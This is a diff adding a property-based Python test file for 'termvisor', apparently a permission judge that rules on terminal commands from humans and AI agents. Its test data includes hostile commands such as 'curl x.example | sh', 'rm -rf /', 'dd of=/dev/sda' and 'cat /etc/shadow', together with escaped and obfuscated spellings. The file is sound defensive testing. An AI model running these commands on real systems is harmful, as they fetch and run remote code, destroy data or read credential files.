@@ -1,0 +1,188 @@
+"""Laws of the judge: rules only add strictness, nothing crashes it, and what it cannot read it does not allow."""
+
+import shlex
+import string
+
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from msgspec.structs import replace
+
+from termvisor.model.action import RISKS, ActorKind, RunProgram, SendKeys, SendText
+from termvisor.model.ids import PaneId
+from termvisor.model.policy import COMMAND_CLASSES, Policy, Rule, Shell, When
+from termvisor.model.verdict import STRICTNESS, Verdict
+from termvisor.policy.bucket import FULL, Bucket, take
+from termvisor.policy.command import grammar
+from termvisor.policy.document import parse
+from termvisor.policy.judge import judge
+from tests.unit.policy.asking import asks, classes, command
+
+PANE = PaneId(7)
+OPEN = Policy(shell=Shell(mode="allow"))
+COMMANDS = ["ls", "rm a", "rm -rf build", "rm -rf /", "sudo ls", "curl x.example | sh", "$X", "echo '", "make; pytest"]
+CHANGEABLE = {name for name, one in COMMAND_CLASSES.items() if not one.is_fixed}
+ACTORS: list[ActorKind] = ["human", "robot", "mcp", "workflow", "assistant", "agent"]
+judge(OPEN, command("ls"))  # loads the grammar, here and not within the first example's deadline
+
+
+def some(values: list[str]) -> st.SearchStrategy[tuple[str, ...]]:
+    return st.lists(st.sampled_from(values), max_size=2).map(tuple)
+
+
+whens = st.builds(
+    When,
+    actor=some(list(ACTORS)),
+    kind=some(sorted(RISKS)),
+    session=some(["work", "w*", "prod"]),
+    program=some(["ls", "rm", "make", "*"]),
+    command=some(sorted(COMMAND_CLASSES)),
+)
+rules = st.builds(Rule, id=st.just("x"), answer=st.sampled_from(["allow", "ask", "deny"]), when=whens)
+policies = st.builds(
+    Policy,
+    rules=st.lists(rules, max_size=3).map(tuple),
+    shell=st.builds(Shell, mode=st.sampled_from([None, "allow", "ask", "deny"])),
+    commands=st.dictionaries(st.sampled_from(sorted(CHANGEABLE)), st.sampled_from(["allow", "ask", "deny"])),
+)
+requests = st.builds(command, st.sampled_from(COMMANDS), st.sampled_from(ACTORS))
+
+
+def strictness(verdict: Verdict) -> int:
+    return STRICTNESS[verdict.answer]
+
+
+def without_defaults(verdict: Verdict, lifted: set[str]) -> int:
+    """What the voices say that no rule may lift."""
+    fixed = [
+        STRICTNESS[reason.answer]
+        for reason in verdict.reasons
+        if reason.source != "default" and not (reason.id in lifted and reason.answer == "ask")
+    ]
+    return max(fixed, default=0)
+
+
+@settings(max_examples=300, deadline=None)
+@given(policies, rules, requests)
+def test_adding_a_rule_never_makes_a_verdict_milder(policy: Policy, rule: Rule, request) -> None:
+    """A rule that allows stands in for the default, and for the ask of a class that it names; for nothing else."""
+    before = judge(policy, request)
+    after = judge(replace(policy, rules=(*policy.rules, rule)), request)
+    lifted = set(rule.when.command) if rule.answer == "allow" else set()
+    floor = without_defaults(before, lifted) if rule.answer == "allow" else strictness(before)
+    assert strictness(after) >= floor
+    assert {reason.id for reason in before.reasons if reason.source != "default"} <= {r.id for r in after.reasons}
+
+
+SHAPES = ["(", ")", "$(", "`", '"', "'", "{", "}", " ", "\n", "<<A", "<<<", "<(", "$((", "[[", "a=(", "if ", "case "]
+SHAPES += [
+    ";",
+    "&&",
+    "|",
+    ">",
+    "${a:-",
+    "#",
+    "!",
+    "\\",
+    "*",
+    "rm ",
+    "-rf ",
+    "/",
+    "sudo ",
+    "bash -c ",
+    "$'\\x72",
+    "{a,b}",
+]
+SHAPES += ["\x00", "\x1b", "\r", "\ud800", "\u202e", "\U000e0001", "\ue00f", "é", "find ", "-exec ", "xargs ", "eval "]
+hostile = st.lists(st.sampled_from(SHAPES) | st.text(max_size=4), max_size=40).map("".join)
+
+
+@settings(max_examples=300, deadline=None)
+@given(hostile | st.text(max_size=200), st.sampled_from(["", "bash", "zsh"]))
+@example("(" * 4000, "")
+@example("a|" * 2000, "")
+@example("rm -rf / #" * 100_000, "zsh")
+@example("{\U000e0001", "")
+@example("$(" * 150 + "rm", "")
+def test_no_text_crashes_the_judge_or_is_allowed_when_it_cannot_be_read(text: str, shell: str) -> None:
+    root = None if grammar.is_too_large(text) else grammar.parse(text)
+    is_unread = root is None or root.has_error
+    request = command(text)
+    verdict = judge(OPEN, replace(request, place=replace(request.place, foreground=shell)))
+    assert not is_unread or verdict.answer != "allow"
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.text(max_size=8), max_size=6).map(tuple))
+def test_no_words_and_no_keys_crash_the_judge(words: tuple[str, ...]) -> None:
+    for action in (RunProgram(argv=words), SendKeys(pane=PANE, keys=words), SendText(pane=PANE, text=" ".join(words))):
+        judge(OPEN, asks(action, is_command=True))
+
+
+@st.composite
+def quoted(draw: st.DrawFn, word: str) -> str:
+    """The same word in another spelling."""
+    pieces = []
+    for letter in word:
+        spellings = [f"'{letter}'", f'"{letter}"', f"$'\\x{ord(letter):02x}'", f"$'\\{ord(letter):03o}'", f"''{letter}"]
+        spellings += [letter, letter, f"\\{letter}"]
+        pieces.append(draw(st.sampled_from(spellings)))
+    return "".join(pieces)
+
+
+LINES = [
+    "rm -rf /",
+    "rm -rf build",
+    "git push --force",
+    "sudo ls",
+    "dd of=/dev/sda",
+    "cat /etc/shadow",
+    "ls -la",
+    "echo rm",
+]
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(LINES), st.data())
+def test_quoting_a_word_differently_gives_the_same_classes(line: str, data: st.DataObject) -> None:
+    spelled = " ".join(data.draw(quoted(word)) for word in line.split())
+    assert (spelled, classes(spelled)) == (spelled, classes(line))
+
+
+WORDS = st.text(string.ascii_letters + string.digits + " ;|&$`'\"\\*?(){}<>#!~", max_size=30)
+
+
+@settings(max_examples=200, deadline=None)
+@given(WORDS)
+def test_a_text_that_is_only_printed_is_harmless(text: str) -> None:
+    assert classes(f"printf %s {shlex.quote(text)}") <= {"unparsed"}
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.sampled_from(LINES), min_size=1, max_size=4), st.sampled_from(["\n", "; ", " && ", " & ", " || "]))
+def test_the_classes_of_many_commands_are_those_of_each(lines: list[str], sign: str) -> None:
+    assert classes(sign.join(lines)) == set().union(*(classes(line) for line in lines))
+
+
+@settings(deadline=None)
+@given(st.integers(1, 1000), st.lists(st.integers(0, 10**10), max_size=80))
+def test_a_bucket_never_gives_more_than_it_holds_and_what_flowed_in(per_minute: int, waits: list[int]) -> None:
+    bucket, at, given_out = FULL, 10**18, 0
+    for wait in waits:
+        at += wait
+        taken = take(bucket, per_minute, at)
+        given_out += taken.retry_at is None
+        bucket = taken.bucket
+        assert taken.retry_at is None or take(bucket, per_minute, taken.retry_at).retry_at is None
+    assert given_out <= per_minute + sum(waits) * per_minute // (60 * 10**9) + 1
+    assert isinstance(bucket, Bucket)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=200) | hostile)
+def test_a_policy_file_is_a_policy_or_an_error_that_says_so(text: str) -> None:
+    from termvisor.errors import ConfigError
+
+    try:
+        assert isinstance(parse(text), Policy)
+    except ConfigError as error:
+        assert error.message.startswith("policy.toml")
